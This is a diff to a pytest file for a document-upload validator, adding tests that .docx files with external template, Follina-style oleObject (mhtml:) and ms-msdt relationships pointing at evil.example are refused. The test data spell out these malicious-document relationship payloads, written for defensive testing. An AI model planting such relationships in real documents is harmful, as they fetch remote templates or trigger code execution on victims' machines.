@@ -464,6 +464,15 @@ def _docx_content_types(*overrides):
     return b'<?xml version="1.0"?><Types xmlns="x">' + parts + b"</Types>"
 
 
+def _docx_relationship(kind, target):
+    rels = (
+        b"<Relationships><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/"
+        b"officeDocument/2006/relationships/%s' Target='%s' TargetMode='External'/>"
+        b"</Relationships>"
+    ) % (kind.encode(), target.encode())
+    return make_docx({"word/_rels/settings.xml.rels": rels})
+
+
 MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
 OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
 
@@ -484,19 +493,13 @@ OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
         (make_docx({"word/activeX/activeX1.xml": b"<ax:ocx/>"}), "embedded object"),
         # a program under an innocent name is found by its first bytes
         (make_docx({"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 200}), "embedded object"),
+        (_docx_relationship("attachedTemplate", "https://evil.example/t.dotm"), "embedded object"),
+        (_docx_relationship("attachedTemplate", "\\\\evil.example\\t.dotm"), "embedded object"),
         (
-            make_docx(
-                {
-                    "word/_rels/settings.xml.rels": (
-                        b'<Relationships><Relationship Id="rId1" Type="http://schemas.'
-                        b"openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
-                        b'" Target="https://evil.example/t.dotm" TargetMode="External"/>'
-                        b"</Relationships>"
-                    )
-                }
-            ),
+            _docx_relationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://e/"),
             "embedded object",
         ),
+        (_docx_relationship("hyperlink", "ms-msdt:/id PCWDiagnostic"), "embedded object"),
     ],
     ids=[
         "vbaproject",
@@ -507,11 +510,19 @@ OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
         "activex",
         "exe-named-png",
         "remote-template",
+        "unc-template",
+        "follina-ole-object",
+        "ms-msdt-link",
     ],
 )
 def test_docx_with_active_content_is_refused(data, words):
     error = assert_rejected(data, 400, "active_content", name="cv.docx")
     assert words in error.message
+
+
+def test_docx_made_from_a_template_on_the_authors_disk_is_accepted():
+    data = _docx_relationship("attachedTemplate", "file:///C:\\Users\\claire\\CV.dotx")
+    assert inspect_upload(upload(data, name="cv.docx")).extension == "docx"
 
 
 def test_docx_with_a_hyperlink_and_printer_settings_is_accepted():
